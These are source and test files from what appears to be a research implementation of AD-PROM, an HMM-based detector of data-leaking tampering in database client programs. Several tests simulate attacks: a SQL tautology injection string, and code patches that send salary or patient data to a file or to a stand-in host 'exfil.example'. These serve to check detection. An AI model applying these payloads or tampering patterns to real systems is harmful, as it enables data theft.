// Quickstart: the whole AD-PROM pipeline on a ten-line database client.
//
//   1. Write (or load) a MiniApp program that talks to the mini RDBMS.
//   2. Static phase: Analyzer extracts CFG/CG, labels TD outputs via the
//      DDG, and builds the program call-transition matrix.
//   3. Training phase: run the test suite under the Calls Collector and
//      let the Profile Constructor fit the HMM.
//   4. Detection phase: monitor a tampered build and read the flags.
//
// Build & run:  cmake --build build && ./build/examples/quickstart

#include <cstdio>
#include <memory>

#include "attack/mutators.h"
#include "core/adprom.h"
#include "prog/program.h"

namespace {

constexpr const char* kClient = R"__(
fn main() {
  var cmd = scan();
  while (!is_null(cmd)) {
    if (cmd == "report") {
      report();
    } else {
      print_err("unknown command " + cmd);
    }
    cmd = scan();
  }
}

fn report() {
  var r = db_query("SELECT name, salary FROM staff ORDER BY salary DESC");
  var n = db_ntuples(r);
  var i = 0;
  while (i < n) {
    print(db_getvalue(r, i, 0) + ": " + db_getvalue(r, i, 1));
    i = i + 1;
  }
  print("listed " + n + " employees");
}
)__";

adprom::core::DbFactory StaffDb() {
  return [] {
    auto db = std::make_unique<adprom::db::Database>();
    db->Execute("CREATE TABLE staff (id INT, name TEXT, salary INT)");
    const char* names[] = {"ana", "ben", "cleo", "dee", "eli", "flo"};
    for (int i = 0; i < 6; ++i) {
      db->Execute("INSERT INTO staff VALUES (" + std::to_string(i) + ", '" +
                  names[i] + "', " + std::to_string(40000 + i * 7000) + ")");
    }
    return db;
  };
}

}  // namespace

int main() {
  using namespace adprom;

  // 1-2. Parse and statically analyze.
  auto program = prog::ParseProgram(kClient);
  if (!program.ok()) {
    std::printf("parse error: %s\n", program.status().ToString().c_str());
    return 1;
  }
  core::Analyzer analyzer;
  auto analysis = analyzer.Analyze(*program);
  std::printf("static analysis: %zu call sites, %zu labeled TD outputs\n",
              analysis->program_ctm.num_sites(),
              [&] {
                size_t labeled = 0;
                for (size_t i = 0; i < analysis->program_ctm.num_sites(); ++i)
                  if (analysis->program_ctm.site(i).labeled) ++labeled;
                return labeled;
              }());
  std::printf("\nprogram call-transition matrix (pCTM):\n%s\n",
              analysis->program_ctm.ToString(2).c_str());

  // 3. Train the profile on a handful of normal sessions.
  std::vector<core::TestCase> training = {
      {{"report"}},
      {{"report", "report"}},
      {{"oops", "report"}},
      {{"report", "oops"}},
      {{"report", "report", "report"}},
  };
  auto system = core::AdProm::Train(*program, StaffDb(), training);
  if (!system.ok()) {
    std::printf("training failed: %s\n", system.status().ToString().c_str());
    return 1;
  }
  std::printf("profile: %zu hidden states, alphabet %zu, threshold %.3f\n",
              system->profile().num_states, system->profile().alphabet.size(),
              system->profile().threshold);

  // 4a. A benign run stays quiet.
  auto benign = system->Monitor(*program, StaffDb(), {{"report"}});
  std::printf("\nbenign run: %zu windows, %zu alarms\n",
              benign->detections.size(), benign->Alarms().size());

  // 4b. The attacker patches the deployed build to copy each salary line
  // into a file. AD-PROM flags it and names the leaked table.
  attack::InsertOutputSpec spec;
  spec.function = "report";
  spec.variable = "r";
  spec.output_call = "write_file";
  spec.channel_arg = "/tmp/steal.txt";
  spec.where = attack::InsertWhere::kBodyOfFirstWhile;
  auto tampered = attack::InsertOutputStatement(*program, spec);
  auto attacked = system->Monitor(*tampered, StaffDb(), {{"report"}});
  std::printf("tampered run: %zu alarms\n", attacked->Alarms().size());
  for (const core::Detection& alarm : attacked->Alarms()) {
    std::printf("  window %zu: %s (score %.3f)", alarm.window_start,
                core::DetectionFlagName(alarm.flag), alarm.score);
    if (!alarm.source_tables.empty()) {
      std::printf("  leaked from:");
      for (const std::string& table : alarm.source_tables) {
        std::printf(" %s", table.c_str());
      }
    }
    std::printf("\n");
    if (alarm.window_start > 3) break;  // keep the output short
  }
  return 0;
}
