// Corpus sanity tests: every app parses, analyzes with flow-conserving
// CTMs, and runs all of its test cases without interpreter errors.

#include "apps/corpus.h"

#include <gtest/gtest.h>

#include "core/analyzer.h"
#include "prog/program.h"

namespace adprom::apps {
namespace {

struct AppCheck {
  prog::Program program;
  core::AnalysisResult analysis;
};

AppCheck Analyze(const CorpusApp& app) {
  auto program = prog::ParseProgram(app.source);
  EXPECT_TRUE(program.ok()) << app.name << ": " << program.status().ToString();
  core::Analyzer analyzer;
  auto analysis = analyzer.Analyze(*program);
  EXPECT_TRUE(analysis.ok()) << app.name << ": "
                             << analysis.status().ToString();
  return {std::move(program).value(), std::move(analysis).value()};
}

class CorpusAppTest : public ::testing::TestWithParam<int> {
 public:
  static CorpusApp MakeApp(int index) {
    switch (index) {
      case 0: return MakeHospitalApp();
      case 1: return MakeBankingApp();
      case 2: return MakeSupermarketApp();
      case 3: return MakeGrepLike(20, 1);
      case 4: return MakeGzipLike(15, 2);
      case 5: return MakeSedLike(15, 3);
      default: return MakeBashLike(25, 10, 4);  // small variant for speed
    }
  }
};

TEST_P(CorpusAppTest, ParsesAndAnalyzes) {
  const CorpusApp app = MakeApp(GetParam());
  AppCheck check = Analyze(app);
  EXPECT_GT(check.analysis.program_ctm.num_sites(), 0u) << app.name;
  EXPECT_TRUE(check.analysis.program_ctm.CheckInvariants().ok())
      << app.name << ": "
      << check.analysis.program_ctm.CheckInvariants().ToString();
}

TEST_P(CorpusAppTest, AllTestCasesRunClean) {
  const CorpusApp app = MakeApp(GetParam());
  AppCheck check = Analyze(app);
  ASSERT_FALSE(app.test_cases.empty());
  size_t total_events = 0;
  for (const core::TestCase& tc : app.test_cases) {
    auto trace = core::AdProm::CollectTrace(check.program,
                                            check.analysis.cfgs,
                                            app.db_factory, tc);
    ASSERT_TRUE(trace.ok()) << app.name << ": " << trace.status().ToString();
    EXPECT_FALSE(trace->empty()) << app.name;
    total_events += trace->size();
  }
  EXPECT_GT(total_events, app.test_cases.size());
}

std::string AppParamName(const ::testing::TestParamInfo<int>& info) {
  static const char* names[] = {"Hospital", "Banking",  "Supermarket",
                                "GrepLike", "GzipLike", "SedLike",
                                "BashLike"};
  return names[info.param];
}

INSTANTIATE_TEST_SUITE_P(AllApps, CorpusAppTest, ::testing::Range(0, 7),
                         AppParamName);

TEST(CorpusTest, DbAppsHaveLabeledSites) {
  for (int i = 0; i < 3; ++i) {
    const CorpusApp app = CorpusAppTest::MakeApp(i);
    auto program = prog::ParseProgram(app.source);
    ASSERT_TRUE(program.ok());
    core::Analyzer analyzer;
    auto analysis = analyzer.Analyze(*program);
    ASSERT_TRUE(analysis.ok());
    size_t labeled = 0;
    for (size_t s = 0; s < analysis->program_ctm.num_sites(); ++s) {
      if (analysis->program_ctm.site(s).labeled) ++labeled;
    }
    EXPECT_GT(labeled, 0u) << app.name;
  }
}

TEST(CorpusTest, BankingAppIsInjectable) {
  // The vulnerable find_client transaction must genuinely leak: the
  // tautology payload retrieves every client, the benign id exactly one.
  const CorpusApp app = MakeBankingApp();
  auto program = prog::ParseProgram(app.source);
  ASSERT_TRUE(program.ok());
  auto cfgs = prog::BuildAllCfgs(*program);
  ASSERT_TRUE(cfgs.ok());

  runtime::ProgramIo benign_io;
  auto benign = core::AdProm::CollectTrace(
      *program, *cfgs, app.db_factory, {{"client", "104"}}, &benign_io);
  ASSERT_TRUE(benign.ok());
  size_t benign_rows = 0;
  for (const std::string& line : benign_io.screen) {
    if (line.rfind("client ", 0) == 0) ++benign_rows;
  }
  EXPECT_EQ(benign_rows, 1u);

  runtime::ProgramIo attack_io;
  auto attacked = core::AdProm::CollectTrace(
      *program, *cfgs, app.db_factory, {{"client", "1' OR '1'='1"}},
      &attack_io);
  ASSERT_TRUE(attacked.ok());
  size_t leaked_rows = 0;
  for (const std::string& line : attack_io.screen) {
    if (line.rfind("client ", 0) == 0) ++leaked_rows;
  }
  EXPECT_EQ(leaked_rows, 15u);  // all clients leak
  EXPECT_GT(attacked->size(), benign->size());
}

TEST(CorpusTest, BashLikeScalesPastClusterThreshold) {
  const CorpusApp app = MakeBashLike(170, 2, 9);
  auto program = prog::ParseProgram(app.source);
  ASSERT_TRUE(program.ok()) << program.status().ToString();
  core::Analyzer analyzer;
  auto analysis = analyzer.Analyze(*program);
  ASSERT_TRUE(analysis.ok()) << analysis.status().ToString();
  // The paper's reduction trigger: more than 900 states.
  EXPECT_GT(analysis->program_ctm.num_sites(), 900u);
  EXPECT_TRUE(analysis->program_ctm.CheckInvariants().ok())
      << analysis->program_ctm.CheckInvariants().ToString();
}

TEST(CorpusTest, FullCorpusHasSevenApps) {
  const auto corpus = MakeFullCorpus();
  ASSERT_EQ(corpus.size(), 7u);
  EXPECT_EQ(corpus[0].name, "App_h");
  EXPECT_EQ(corpus[1].name, "App_b");
  EXPECT_EQ(corpus[2].name, "App_s");
  EXPECT_EQ(corpus[6].name, "App4");
  EXPECT_EQ(corpus[0].dbms, "PostgreSQL");
  EXPECT_EQ(corpus[1].dbms, "MySQL");
}

}  // namespace
}  // namespace adprom::apps
