// The future-work web application (App_w): the unchanged AD-PROM pipeline
// profiles a request-driven program and catches a handler tampered to
// exfiltrate rendered patient data.

#include <gtest/gtest.h>

#include "apps/corpus.h"
#include "attack/mutators.h"
#include "prog/program.h"

namespace adprom::apps {
namespace {

TEST(WebPortalTest, ServesRequestsAndLogs) {
  const CorpusApp app = MakeWebPortalApp();
  auto program = prog::ParseProgram(app.source);
  ASSERT_TRUE(program.ok()) << program.status().ToString();
  auto cfgs = prog::BuildAllCfgs(*program);
  ASSERT_TRUE(cfgs.ok());
  runtime::ProgramIo io;
  auto trace = core::AdProm::CollectTrace(
      *program, *cfgs, app.db_factory,
      {{"GET /patients", "GET /patient", "2", "GET /missing"}}, &io);
  ASSERT_TRUE(trace.ok()) << trace.status().ToString();
  ASSERT_GE(io.screen.size(), 4u);
  EXPECT_EQ(io.screen[0], "HTTP/1.1 200");
  EXPECT_NE(io.screen[1].find("<li>iris</li>"), std::string::npos);
  EXPECT_NE(io.screen[3].find("<h1>kira</h1>"), std::string::npos);
  // The rendered pages carry TD labels (patient names/diagnoses).
  bool labeled_response = false;
  for (const runtime::CallEvent& event : *trace) {
    if (event.callee == "print" && event.td_output) labeled_response = true;
  }
  EXPECT_TRUE(labeled_response);
  // The access log of /patients is labeled too? No — it records only the
  // route string, so it must NOT be tainted.
  EXPECT_FALSE(io.files.at("access.log").tainted());
  // The CSV export, in contrast, is a labeled file.
  auto export_trace = core::AdProm::CollectTrace(
      *program, *cfgs, app.db_factory, {{"GET /export"}}, &io);
  ASSERT_TRUE(export_trace.ok());
  EXPECT_TRUE(io.files.at("export.csv").tainted());
}

TEST(WebPortalTest, PipelineDetectsTamperedHandler) {
  const CorpusApp app = MakeWebPortalApp();
  auto program = prog::ParseProgram(app.source);
  ASSERT_TRUE(program.ok());
  auto system = core::AdProm::Train(*program, app.db_factory,
                                    app.test_cases);
  ASSERT_TRUE(system.ok()) << system.status().ToString();

  // Benign sessions are quiet.
  auto benign = system->Monitor(*program, app.db_factory,
                                {{"GET /patients", "GET /health"}});
  ASSERT_TRUE(benign.ok());
  EXPECT_FALSE(benign->HasAlarm());

  // The attacker patches handle_detail to also send each rendered page to
  // an external host.
  attack::InsertOutputSpec spec;
  spec.function = "handle_detail";
  spec.variable = "page";
  spec.output_call = "send_net";
  spec.channel_arg = "exfil.example:443";
  spec.where = attack::InsertWhere::kEnd;
  auto tampered = attack::InsertOutputStatement(*program, spec);
  ASSERT_TRUE(tampered.ok()) << tampered.status().ToString();

  auto attacked = system->Monitor(*tampered, app.db_factory,
                                  {{"GET /patient", "4"}});
  ASSERT_TRUE(attacked.ok());
  EXPECT_TRUE(attacked->HasAlarm());
  EXPECT_TRUE(attacked->ConnectedToSource());
  // The exfiltration channel really received the page.
  EXPECT_FALSE(attacked->io.network.empty());
}

}  // namespace
}  // namespace adprom::apps
