// Differential tests for the batched scoring engine: for any batch width,
// lane count, kernel flavour (SIMD vs forced-scalar) and window mix, the
// exact tier's scores must be *bit-identical* to the scalar ForwardInto
// path — not merely close. The triage tier must be a sound lower bound:
// it may only certify windows whose exact score provably clears the
// threshold, and must leave every other window to the exact tier.

#include <gtest/gtest.h>

#include <cmath>
#include <cstdint>
#include <cstring>
#include <vector>

#include "hmm/batch_forward.h"
#include "hmm/inference.h"
#include "hmm/sparse.h"
#include "util/rng.h"
#include "util/simd.h"

namespace adprom::hmm {
namespace {

uint64_t Bits(double v) {
  uint64_t bits = 0;
  std::memcpy(&bits, &v, sizeof(bits));
  return bits;
}

#define EXPECT_BIT_EQ(a, b) EXPECT_EQ(Bits(a), Bits(b))

/// Same structurally-sparse shape the profile constructor produces:
/// ~70% exact zeros in A, smoothed dense-positive B and π.
HmmModel RandomSparseModel(size_t n, size_t m, util::Rng& rng) {
  util::Matrix a(n, n);
  util::Matrix b(n, m);
  std::vector<double> pi(n);
  for (size_t s = 0; s < n; ++s) {
    for (size_t t = 0; t < n; ++t) {
      if (rng.UniformDouble() < 0.3) a.At(s, t) = 0.05 + rng.UniformDouble();
    }
    a.At(s, rng.UniformU64(n)) = 0.05 + rng.UniformDouble();
    for (size_t o = 0; o < m; ++o) b.At(s, o) = 0.1 + rng.UniformDouble();
    pi[s] = 0.1 + rng.UniformDouble();
  }
  a.NormalizeRows();
  b.NormalizeRows();
  double total = 0.0;
  for (double v : pi) total += v;
  for (double& v : pi) v /= total;
  HmmModel model(std::move(a), std::move(b), std::move(pi));
  model.SmoothEmissions(1e-6);
  EXPECT_TRUE(model.Validate().ok());
  return model;
}

std::vector<ObservationSeq> RandomSeqs(size_t count, size_t len, size_t m,
                                       util::Rng& rng) {
  std::vector<ObservationSeq> seqs(count);
  for (ObservationSeq& seq : seqs) {
    seq.resize(len);
    for (size_t t = 0; t < len; ++t) {
      seq[t] = static_cast<int>(rng.UniformU64(m));
    }
  }
  return seqs;
}

std::vector<SymbolSpan> Spans(const std::vector<ObservationSeq>& seqs) {
  return {seqs.begin(), seqs.end()};
}

/// Scalar reference scores, window by window.
std::vector<double> ScalarScores(const SparseHmm& sparse,
                                 const std::vector<ObservationSeq>& seqs) {
  ForwardWorkspace ws;
  std::vector<double> out;
  out.reserve(seqs.size());
  for (const ObservationSeq& seq : seqs) {
    auto score = PerSymbolLogLikelihood(sparse, seq, &ws);
    EXPECT_TRUE(score.ok());
    out.push_back(score.ok() ? *score : -1e9);
  }
  return out;
}

class BatchForwardTest : public ::testing::TestWithParam<uint64_t> {};

TEST_P(BatchForwardTest, ExactTierIsBitIdenticalToScalarAtEveryWidth) {
  util::Rng rng(GetParam());
  const size_t n = 2 + rng.UniformU64(20);
  const size_t m = 2 + rng.UniformU64(9);
  const HmmModel model = RandomSparseModel(n, m, rng);
  const SparseHmm sparse(model);
  const size_t len = 1 + rng.UniformU64(24);
  // 11 windows: exercises every chunking shape against the widths below
  // (full chunks, partial tail chunks, sub-lane remainders).
  const auto seqs = RandomSeqs(11, len, m, rng);
  const auto spans = Spans(seqs);
  const std::vector<double> reference = ScalarScores(sparse, seqs);

  // Widths 1, 3 and 5 leave sub-lane remainders on every SIMD arch;
  // 32 (W) and 33 (W+1) cover the default width and one past it.
  for (const size_t width : {size_t{1}, size_t{3}, size_t{5}, size_t{8},
                             size_t{32}, size_t{33}}) {
    for (const bool no_simd : {false, true}) {
      BatchOptions options;
      options.width = width;
      options.no_simd = no_simd;
      const BatchScorer scorer(&sparse, options);
      BatchWorkspace ws;
      scorer.Reserve(&ws);
      std::vector<double> got(seqs.size());
      ASSERT_TRUE(
          scorer.ScoreBatch(spans, /*triage_threshold=*/0.0, &ws, got).ok());
      for (size_t i = 0; i < seqs.size(); ++i) {
        EXPECT_BIT_EQ(got[i], reference[i])
            << "window " << i << " width " << width << " no_simd "
            << no_simd << " level "
            << util::SimdLevelName(scorer.simd_level());
      }
    }
  }
}

TEST_P(BatchForwardTest, TriageBoundNeverExceedsExactScore) {
  util::Rng rng(GetParam() + 4000);
  const size_t n = 2 + rng.UniformU64(16);
  const size_t m = 2 + rng.UniformU64(8);
  const HmmModel model = RandomSparseModel(n, m, rng);
  const SparseHmm sparse(model);
  const TriageTables tables(sparse);
  ASSERT_EQ(tables.num_states(), n);
  EXPECT_GT(tables.SizeBytes(), 0u);

  const size_t len = 1 + rng.UniformU64(20);
  const auto seqs = RandomSeqs(16, len, m, rng);
  const auto spans = Spans(seqs);
  const std::vector<double> exact = ScalarScores(sparse, seqs);

  // Run with a threshold low enough that every window certifies — the
  // max-path bound sits below the sum-over-paths exact score by up to
  // ~log(n) per symbol, but for this model family it never drops below
  // about -96 per symbol (every quantized factor is >= -32 log-units), so
  // -1e5 is clear by orders of magnitude. got[] then holds the raw
  // bounds, which must never exceed the exact scores.
  constexpr double kCertifyAll = -1e5;
  BatchOptions options;
  options.triage = true;
  const BatchScorer scorer(&sparse, options);
  ASSERT_FALSE(scorer.triage_tables().empty());
  BatchWorkspace ws;
  std::vector<double> got(seqs.size());
  ASSERT_TRUE(scorer.ScoreBatch(spans, kCertifyAll, &ws, got).ok());
  EXPECT_EQ(ws.stats.triage_certified, seqs.size())
      << "a threshold below any reachable bound should certify everything";
  for (size_t i = 0; i < seqs.size(); ++i) {
    EXPECT_LE(got[i], exact[i]) << "window " << i;
    // Certified or not, the verdict side of the threshold is unchanged.
    EXPECT_EQ(got[i] >= kCertifyAll, exact[i] >= kCertifyAll);
  }

  // With an unreachable threshold nothing certifies and every score is the
  // exact one, bit for bit.
  BatchWorkspace ws2;
  std::vector<double> got2(seqs.size());
  ASSERT_TRUE(scorer.ScoreBatch(spans, 1e9, &ws2, got2).ok());
  EXPECT_EQ(ws2.stats.triage_certified, 0u);
  for (size_t i = 0; i < seqs.size(); ++i) {
    EXPECT_BIT_EQ(got2[i], exact[i]) << "window " << i;
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, BatchForwardTest,
                         ::testing::Values(1, 2, 3, 4, 5, 6));

TEST(BatchForwardValidationTest, RejectsMixedLengthsAndBadSymbols) {
  util::Rng rng(11);
  const HmmModel model = RandomSparseModel(4, 3, rng);
  const SparseHmm sparse(model);
  const BatchScorer scorer(&sparse, BatchOptions{});
  BatchWorkspace ws;

  ObservationSeq a{0, 1, 2};
  ObservationSeq b{0, 1};
  std::vector<SymbolSpan> mixed{a, b};
  std::vector<double> out(2);
  EXPECT_FALSE(scorer.ScoreBatch(mixed, 0.0, &ws, out).ok());

  ObservationSeq bad{0, 3, 1};  // symbol 3 out of range for m = 3
  std::vector<SymbolSpan> invalid{bad};
  std::vector<double> out1(1);
  EXPECT_FALSE(scorer.ScoreBatch(invalid, 0.0, &ws, out1).ok());

  std::vector<SymbolSpan> empty;
  EXPECT_TRUE(scorer.ScoreBatch(empty, 0.0, &ws, {}).ok());

  EXPECT_FALSE(BatchScorer().ScoreBatch(invalid, 0.0, &ws, out1).ok());
}

TEST(BatchForwardDispatchTest, NoSimdForcesScalarKernels) {
  util::Rng rng(12);
  const HmmModel model = RandomSparseModel(4, 3, rng);
  const SparseHmm sparse(model);
  BatchOptions options;
  options.no_simd = true;
  const BatchScorer scorer(&sparse, options);
  EXPECT_EQ(scorer.simd_level(), util::SimdLevel::kScalar);
}

TEST(TriageTablesTest, QuantizedLogsAreLowerBounds) {
  util::Rng rng(13);
  const HmmModel model = RandomSparseModel(6, 4, rng);
  const SparseHmm sparse(model);
  const TriageTables tables(sparse);
  const double scale = TriageTables::kScale;
  for (size_t s = 0; s < sparse.num_states(); ++s) {
    EXPECT_LE(tables.qpi()[s] / scale, std::log(sparse.pi()[s]));
  }
  const CsrMatrix& at = sparse.a_transpose();
  for (size_t k = 0; k < at.nnz(); ++k) {
    EXPECT_LE(tables.qa_transpose()[k] / scale, std::log(at.val[k]));
  }
  for (size_t o = 0; o < sparse.num_symbols(); ++o) {
    for (size_t s = 0; s < sparse.num_states(); ++s) {
      EXPECT_LE(
          tables.qb_transpose()[o * sparse.num_states() + s] / scale,
          std::log(sparse.b_transpose().At(o, s)));
    }
  }
}

TEST(TriageTablesTest, UnderflowingTransitionLogsNeverInflateTheBound) {
  // EM can leave stored transition probabilities far below int16 log range
  // (p < ~1.2e-14, as the Supermarket profile does). Rounding such a log
  // UP to INT16_MIN (-32 log-units) once made the quantized best path beat
  // every honest path — the bound overshot the exact score and could
  // falsely certify anomalous windows. The quantizer must treat those
  // entries as -inf so the bound only ever drops.
  //
  // Bottleneck construction: state 0 emits symbol 0, state 1 emits symbol
  // 1 (rest smoothed to ~1e-6), and the only route from 0 to 1 is a 1e-30
  // transition. For the window {0,1,1,1,1,1} the honest alternatives are
  // "pay log(1e-30) ~= -69 once" or "stay in state 0 and pay five smoothed
  // emissions ~= -69"; the old clamp priced the bottleneck at -32 and
  // certified a bound ~2x above the exact score.
  util::Matrix a(2, 2);
  a.At(0, 0) = 1.0 - 1e-30;
  a.At(0, 1) = 1e-30;
  a.At(1, 1) = 1.0;
  util::Matrix b(2, 2);
  b.At(0, 0) = 1.0;
  b.At(1, 1) = 1.0;
  HmmModel model(std::move(a), std::move(b), {1.0, 0.0});
  model.SmoothEmissions(1e-6);
  ASSERT_TRUE(model.Validate().ok());
  const SparseHmm sparse(model);

  BatchOptions options;
  options.triage = true;
  const BatchScorer scorer(&sparse, options);
  ASSERT_FALSE(scorer.triage_tables().empty());

  const std::vector<ObservationSeq> seqs = {
      {0, 1, 1, 1, 1, 1},  // squeezed through the bottleneck
      {0, 0, 0, 0, 0, 0},  // never touches it
  };
  const auto spans = Spans(seqs);
  const std::vector<double> exact = ScalarScores(sparse, seqs);

  BatchWorkspace ws;
  std::vector<double> got(seqs.size());
  ASSERT_TRUE(scorer.ScoreBatch(spans, -1e5, &ws, got).ok());
  EXPECT_EQ(ws.stats.triage_certified, seqs.size());
  for (size_t i = 0; i < seqs.size(); ++i) {
    EXPECT_LE(got[i], exact[i]) << "window " << i;
  }
}

}  // namespace
}  // namespace adprom::hmm
