// Determinism guarantees of the sharded (parallel) Baum-Welch E-step: the
// trained model must be bit-identical for every thread count, because the
// shard layout depends only on the corpus size and the per-shard partial
// sums are merged in fixed shard order.

#include <gtest/gtest.h>

#include "hmm/baum_welch.h"
#include "hmm/inference.h"
#include "util/rng.h"
#include "util/thread_pool.h"

namespace adprom::hmm {
namespace {

HmmModel GroundTruth() {
  util::Matrix a = util::Matrix::FromRows(
      {{0.7, 0.2, 0.1}, {0.1, 0.7, 0.2}, {0.25, 0.25, 0.5}});
  util::Matrix b = util::Matrix::FromRows({{0.7, 0.2, 0.05, 0.05},
                                           {0.05, 0.7, 0.2, 0.05},
                                           {0.05, 0.05, 0.2, 0.7}});
  return HmmModel(std::move(a), std::move(b), {0.5, 0.3, 0.2});
}

/// Samples a corpus large enough to span many E-step shards.
std::vector<ObservationSeq> SampleCorpus(size_t count, size_t length) {
  util::Rng rng(1234);
  const HmmModel truth = GroundTruth();
  std::vector<ObservationSeq> out;
  out.reserve(count);
  for (size_t c = 0; c < count; ++c) {
    ObservationSeq seq;
    size_t state = rng.WeightedIndex(truth.pi());
    for (size_t t = 0; t < length; ++t) {
      seq.push_back(
          static_cast<int>(rng.WeightedIndex(truth.b().Row(state))));
      state = rng.WeightedIndex(truth.a().Row(state));
    }
    out.push_back(std::move(seq));
  }
  return out;
}

struct TrainedRun {
  HmmModel model;
  TrainStats stats;
};

TrainedRun TrainWith(int num_threads,
                     const std::vector<ObservationSeq>& corpus) {
  util::Rng rng(99);
  TrainedRun run;
  run.model = HmmModel::Random(3, 4, rng);  // same seed => same init
  TrainOptions options;
  options.max_iterations = 8;
  options.tolerance = 0.0;  // run all iterations
  options.num_threads = num_threads;
  auto stats = BaumWelchTrain(&run.model, corpus, options);
  EXPECT_TRUE(stats.ok()) << stats.status().ToString();
  run.stats = std::move(stats).value();
  return run;
}

void ExpectBitIdentical(const TrainedRun& a, const TrainedRun& b,
                        const std::string& label) {
  EXPECT_EQ(a.model.a().MaxAbsDiff(b.model.a()), 0.0) << label << ": A";
  EXPECT_EQ(a.model.b().MaxAbsDiff(b.model.b()), 0.0) << label << ": B";
  ASSERT_EQ(a.model.pi().size(), b.model.pi().size());
  for (size_t s = 0; s < a.model.pi().size(); ++s) {
    EXPECT_EQ(a.model.pi()[s], b.model.pi()[s]) << label << ": pi[" << s
                                                << "]";
  }
  ASSERT_EQ(a.stats.log_likelihood_curve.size(),
            b.stats.log_likelihood_curve.size())
      << label;
  for (size_t i = 0; i < a.stats.log_likelihood_curve.size(); ++i) {
    EXPECT_EQ(a.stats.log_likelihood_curve[i],
              b.stats.log_likelihood_curve[i])
        << label << ": ll[" << i << "]";
  }
}

TEST(ParallelBaumWelchTest, ThreadCountDoesNotChangeTheModel) {
  const auto corpus = SampleCorpus(80, 30);  // 80 sequences -> 16 shards
  const TrainedRun serial = TrainWith(1, corpus);
  ExpectBitIdentical(serial, TrainWith(2, corpus), "2 threads");
  ExpectBitIdentical(serial, TrainWith(4, corpus), "4 threads");
}

TEST(ParallelBaumWelchTest, HardwareConcurrencyDefaultMatchesSerial) {
  const auto corpus = SampleCorpus(40, 20);
  const TrainedRun serial = TrainWith(1, corpus);
  ExpectBitIdentical(serial, TrainWith(0, corpus), "hardware threads");
}

TEST(ParallelBaumWelchTest, ExternalPoolMatchesSerial) {
  const auto corpus = SampleCorpus(50, 25);
  const TrainedRun serial = TrainWith(1, corpus);

  util::ThreadPool pool(4);
  util::Rng rng(99);
  TrainedRun pooled;
  pooled.model = HmmModel::Random(3, 4, rng);
  TrainOptions options;
  options.max_iterations = 8;
  options.tolerance = 0.0;
  auto stats = BaumWelchTrain(&pooled.model, corpus, options, &pool);
  ASSERT_TRUE(stats.ok()) << stats.status().ToString();
  pooled.stats = std::move(stats).value();
  ExpectBitIdentical(serial, pooled, "external pool");
}

TEST(ParallelBaumWelchTest, SmallCorpusFewerSequencesThanShards) {
  const auto corpus = SampleCorpus(3, 40);  // fewer sequences than shards
  const TrainedRun serial = TrainWith(1, corpus);
  ExpectBitIdentical(serial, TrainWith(4, corpus), "tiny corpus");
}

TEST(ParallelBaumWelchTest, ParallelTrainingStillImprovesLikelihood) {
  const auto corpus = SampleCorpus(60, 25);
  const TrainedRun run = TrainWith(4, corpus);
  const auto& curve = run.stats.log_likelihood_curve;
  ASSERT_GE(curve.size(), 2u);
  for (size_t i = 1; i < curve.size(); ++i) {
    EXPECT_GE(curve[i], curve[i - 1] - 1e-6);
  }
}

}  // namespace
}  // namespace adprom::hmm
