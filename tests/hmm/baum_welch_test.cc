#include "hmm/baum_welch.h"

#include <gtest/gtest.h>

#include "hmm/inference.h"
#include "util/rng.h"

namespace adprom::hmm {
namespace {

/// Samples sequences from a ground-truth model.
std::vector<ObservationSeq> Sample(const HmmModel& model, size_t count,
                                   size_t length, util::Rng& rng) {
  std::vector<ObservationSeq> out;
  out.reserve(count);
  for (size_t c = 0; c < count; ++c) {
    ObservationSeq seq;
    size_t state = rng.WeightedIndex(model.pi());
    for (size_t t = 0; t < length; ++t) {
      seq.push_back(static_cast<int>(rng.WeightedIndex(model.b().Row(state))));
      state = rng.WeightedIndex(model.a().Row(state));
    }
    out.push_back(std::move(seq));
  }
  return out;
}

HmmModel GroundTruth() {
  util::Matrix a = util::Matrix::FromRows({{0.85, 0.15}, {0.25, 0.75}});
  util::Matrix b =
      util::Matrix::FromRows({{0.8, 0.15, 0.05}, {0.05, 0.2, 0.75}});
  return HmmModel(std::move(a), std::move(b), {0.7, 0.3});
}

TEST(BaumWelchTest, LikelihoodNeverDecreases) {
  util::Rng rng(101);
  const HmmModel truth = GroundTruth();
  const auto sequences = Sample(truth, 40, 25, rng);

  HmmModel model = HmmModel::Random(2, 3, rng);
  TrainOptions options;
  options.max_iterations = 20;
  options.tolerance = 0.0;  // run all iterations
  auto stats = BaumWelchTrain(&model, sequences, options);
  ASSERT_TRUE(stats.ok());
  const auto& curve = stats->log_likelihood_curve;
  ASSERT_GE(curve.size(), 2u);
  for (size_t i = 1; i < curve.size(); ++i) {
    EXPECT_GE(curve[i], curve[i - 1] - 1e-6)
        << "iteration " << i << " decreased the likelihood";
  }
}

TEST(BaumWelchTest, ImprovesFitOverRandomInit) {
  util::Rng rng(202);
  const HmmModel truth = GroundTruth();
  const auto train = Sample(truth, 50, 20, rng);
  const auto test = Sample(truth, 20, 20, rng);

  HmmModel model = HmmModel::Random(2, 3, rng);
  auto before = [&] {
    double total = 0.0;
    for (const auto& seq : test) total += *LogLikelihood(model, seq);
    return total;
  };
  const double untrained = before();
  TrainOptions options;
  options.max_iterations = 30;
  ASSERT_TRUE(BaumWelchTrain(&model, train, options).ok());
  const double trained = before();
  EXPECT_GT(trained, untrained);
}

TEST(BaumWelchTest, ModelStaysStochastic) {
  util::Rng rng(303);
  const auto sequences = Sample(GroundTruth(), 20, 15, rng);
  HmmModel model = HmmModel::Random(3, 3, rng);
  ASSERT_TRUE(BaumWelchTrain(&model, sequences).ok());
  EXPECT_TRUE(model.Validate().ok());
}

TEST(BaumWelchTest, CallbackStopsTraining) {
  util::Rng rng(404);
  const auto sequences = Sample(GroundTruth(), 20, 15, rng);
  HmmModel model = HmmModel::Random(2, 3, rng);
  TrainOptions options;
  options.max_iterations = 50;
  int calls = 0;
  options.keep_going = [&](int, const HmmModel&) { return ++calls < 3; };
  auto stats = BaumWelchTrain(&model, sequences, options);
  ASSERT_TRUE(stats.ok());
  EXPECT_TRUE(stats->stopped_by_callback);
  EXPECT_EQ(stats->iterations, 3);
}

TEST(BaumWelchTest, ConvergesAndStops) {
  util::Rng rng(505);
  const auto sequences = Sample(GroundTruth(), 30, 20, rng);
  HmmModel model = HmmModel::Random(2, 3, rng);
  TrainOptions options;
  options.max_iterations = 200;
  options.tolerance = 1e-3;
  auto stats = BaumWelchTrain(&model, sequences, options);
  ASSERT_TRUE(stats.ok());
  EXPECT_TRUE(stats->converged);
  EXPECT_LT(stats->iterations, 200);
}

TEST(BaumWelchTest, RejectsEmptyInput) {
